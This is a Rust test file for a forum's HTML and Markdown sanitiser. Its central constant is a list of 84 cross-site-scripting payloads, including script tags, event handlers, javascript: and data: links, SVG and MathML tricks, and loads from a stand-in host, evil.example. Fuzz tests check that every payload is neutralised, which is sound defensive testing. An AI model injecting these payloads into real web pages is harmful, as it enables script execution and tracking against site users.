//! Hostile texts: none may run, load or imitate anything.

use lyceum::text::{mail, sanitize};
use proptest::prelude::*;
use scraper::Html;

use super::html;

/// The classic ways of getting script past a filter, and ways of spoiling a page without any.
const ATTACKS: [&str; 84] = [
    "<script>alert(1)</script>",
    "<ScRiPt SrC=//evil.example/x.js></ScRiPt>",
    "<script/xss src=\"http://evil.example/x.js\"></script>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)//",
    "</script><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=`javascript:alert(1)`>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<img/src=\"x\"/onerror=alert(1)>",
    "<img lowsrc=\"javascript:alert(1)\">",
    "<img dynsrc=\"javascript:alert(1)\">",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<body onload=alert(1)>",
    "<body background=\"javascript:alert(1)\">",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    "<embed src=\"//evil.example/x.swf\">",
    "<applet code=x></applet>",
    "<base href=\"https://evil.example/\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import'http://evil.example/x.css';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<form action=\"javascript:alert(1)\"><button>x</button></form>",
    "<form><input type=password name=password></form>",
    "<button formaction=javascript:alert(1) form=reply>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<video src=x onerror=alert(1)></video>",
    "<video poster=javascript:alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"java\u{1}script:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"//evil.example\">x</a>",
    "<a href=\"/\\evil.example\">x</a>",
    "<a href=x style=\"position:fixed;inset:0\">x</a>",
    "<a href=https://a.example target=_blank ping=//evil.example>x</a>",
    "<p class=\"problems notice\" id=main onclick=alert(1)>x</p>",
    "<div class=\"wide\" style=\"background:url(//evil.example)\" onmouseover=alert(1)>x</div>",
    "<pre tabindex=\"1\" accesskey=x>x</pre>",
    "<li id=reply>x</li><a id=main href=#main>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\u{1}script:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/)",
    "[x](/\\evil.example/)",
    "[x](\\\\evil.example\\share)",
    "[x](https:///evil.example)",
    "[x](http://a.example/\"onmouseover=alert(1)//)",
    "[x](http://a.example 'y\" onclick=alert(1) z=\"')",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![\" onerror=alert(1) \"](https://evil.example/track.png)",
    "```\"><script>alert(1)</script>\nx\n```",
    "[^\"><img src=x onerror=alert(1)>]\n\n[^\"><img src=x onerror=alert(1)>]: x",
];

const ELEMENTS: [&str; 28] = [
    "a",
    "blockquote",
    "br",
    "code",
    "del",
    "details",
    "div",
    "em",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "li",
    "ol",
    "p",
    "pre",
    "span",
    "strong",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "ul",
];
const ATTRIBUTES: [&str; 7] = ["class", "href", "id", "rel", "scope", "start", "tabindex"];
const CLASSES: [&str; 11] =
    ["mention", "wide", "signature", "cite", "task", "notes", "center", "end", "language-", "spoiler", "hl-"];
/// What formulas are drawn with, and nothing that stands in them is HTML again, or leads anywhere.
const MATHML: &str = "http://www.w3.org/1998/Math/MathML";
const FORMULAS: [&str; 24] = [
    "math",
    "mrow",
    "mi",
    "mn",
    "mo",
    "mtext",
    "mspace",
    "mfrac",
    "msqrt",
    "mroot",
    "mstyle",
    "mpadded",
    "mphantom",
    "msub",
    "msup",
    "msubsup",
    "munder",
    "mover",
    "munderover",
    "mtable",
    "mtr",
    "mtd",
    "mmultiscripts",
    "mprescripts",
];

/// What a browser would make of `html`: only known elements, attributes and classes, and no address that is not allowed.
fn assert_harmless(source: &str, html: &str) {
    for node in Html::parse_fragment(html).tree.values() {
        let Some(element) = node.as_element() else { continue };
        if &*element.name.ns == MATHML {
            assert!(FORMULAS.contains(&element.name()), "<{}> came of {source:?}: {html}", element.name());
            for (name, value) in element.attrs() {
                let is_led = name.contains("href") || name.starts_with("on") || ["style", "src", "id"].contains(&name);
                let is_side = name != "class" || ["start", "end"].contains(&value);
                assert!(
                    !is_led && is_side && !value.contains(['<', ':']),
                    "{name}={value:?} came of {source:?}: {html}"
                );
            }
            continue;
        }
        let frame = ["html", "head", "body"].contains(&element.name()) && element.attrs().next().is_none();
        assert!(frame || ELEMENTS.contains(&element.name()), "<{}> came of {source:?}: {html}", element.name());
        for (name, value) in element.attrs() {
            assert!(ATTRIBUTES.contains(&name), "{name}={value:?} came of {source:?}: {html}");
            match name {
                "href" => assert!(is_allowed(value), "{value:?} came of {source:?}: {html}"),
                "class" => {
                    assert!(CLASSES.iter().any(|class| value.starts_with(class)), "class {value:?} came of {source:?}")
                }
                "id" => assert!(value.contains("-note-") || value.contains("-ref-"), "id {value:?} came of {source:?}"),
                "tabindex" => assert_eq!(value, "0", "{source:?}"),
                _ => {}
            }
        }
    }
}

/// Reads an address as the URL standard has browsers do it, which drop control characters and turn backslashes.
fn is_allowed(address: &str) -> bool {
    let seen: String = address
        .trim()
        .chars()
        .filter(|c| !c.is_control())
        .map(|c| if c == '\\' { '/' } else { c })
        .collect::<String>()
        .to_lowercase();
    let host = |scheme: &str| seen.strip_prefix(scheme).is_some_and(|rest| !rest.starts_with('/') && !rest.is_empty());
    host("http://")
        || host("https://")
        || host("mailto:")
        || (seen.starts_with('/') && !seen.starts_with("//"))
        || seen.starts_with("#p1-")
}

#[test]
fn no_attack_survives_in_a_post_a_mail_or_foreign_html() {
    for attack in ATTACKS {
        for source in
            [attack.to_owned(), format!("> - {attack}"), format!("a {attack} b"), format!("| a |\n|---|\n| {attack} |")]
        {
            assert_harmless(&source, &html(&source));
            assert_harmless(&source, mail(&source).as_str());
            assert_harmless(&source, sanitize(&source).as_str());
        }
    }
}

#[test]
fn html_in_a_post_is_shown_as_the_text_it_is() {
    assert_eq!(html("a <b>bold</b> claim"), "<p>a &lt;b&gt;bold&lt;/b&gt; claim</p>");
    assert_eq!(html("<div onclick=\"x()\">hi</div>"), "<p>&lt;div onclick=\"x()\"&gt;hi&lt;/div&gt;</p>");
    assert_eq!(html("<!-- note -->"), "<p>&lt;!-- note --&gt;</p>");
}

#[test]
fn a_link_that_may_not_be_one_keeps_its_words() {
    assert_eq!(html("[click](javascript:alert(1)) me"), "<p>click me</p>");
    assert_eq!(html("[click](java\u{1}script:alert(1))"), "<p>click</p>");
    assert_eq!(html("[click](//evil.example/)"), "<p>click</p>");
}

#[test]
fn the_allow_list_itself_lets_only_our_own_values_through() {
    assert_eq!(
        sanitize("<p class=\"cite\">a</p><p class=\"cite big\">b</p>").as_str(),
        "<p class=\"cite\">a</p><p>b</p>"
    );
    assert_eq!(
        sanitize("<a rel=\"me\" href=\"https://a.example\">a</a>").as_str(),
        "<a href=\"https://a.example\">a</a>"
    );
    assert_eq!(sanitize("<a id=\"main\" href=\"#main\">a</a>").as_str(), "<a>a</a>");
    assert_eq!(sanitize("<ol start=\"3\"><li>a</li></ol>").as_str(), "<ol start=\"3\"><li>a</li></ol>");
    assert_eq!(sanitize("<ol start=\"3e9\"><li>a</li></ol>").as_str(), "<ol><li>a</li></ol>");
}

/// Pieces of Markdown and HTML, put together blindly.
fn soup() -> impl Strategy<Value = String> {
    let pieces = prop::sample::select(vec![
        "<",
        ">",
        "\"",
        "'",
        "&",
        "&#60;",
        "&lt;",
        "<a ",
        "<b>",
        "</p>",
        "<svg>",
        "<script>",
        "<!--",
        "-->",
        "href=",
        "javascript:",
        "https://a.b/",
        "www.a.b",
        "@ada",
        "@",
        "*",
        "**",
        "_",
        "~~",
        "`",
        "```\n",
        "    ",
        "\n",
        "\n\n",
        "> ",
        "- ",
        "- [x] ",
        "1. ",
        "# ",
        "|",
        "|--|:-:|\n",
        "[",
        "]",
        "](",
        ")",
        "![",
        "[^1]",
        "\n[^1]: ",
        "\\",
        "a",
        "word",
        " ",
        "é",
        "مرحبا",
        "你好",
        "👩‍💻",
        "\u{202e}",
        "\u{0}",
        "\u{1}",
        "-- \n",
        "On 3 May Ada wrote:\n",
        "<-",
        "wrote:",
        "____________________\n",
        "-----Original Message-----\n",
        "From: a\nTo: b\nSubject: c\n",
    ]);
    prop::collection::vec(pieces, 0..60).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 400, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn sanitising_twice_changes_nothing(source in soup()) {
        let post = html(&source);
        prop_assert_eq!(sanitize(&post).into_string(), post);
        let letter = mail(&source);
        prop_assert_eq!(sanitize(letter.as_str()), letter);
    }

    #[test]
    fn whatever_is_put_together_is_harmless(source in soup()) {
        assert_harmless(&source, &html(&source));
        assert_harmless(&source, mail(&source).as_str());
        assert_harmless(&source, sanitize(&source).as_str());
    }

    #[test]
    fn any_text_at_all_renders(source in any::<String>()) {
        assert_harmless(&source, &html(&source));
        assert_harmless(&source, mail(&source).as_str());
    }
}
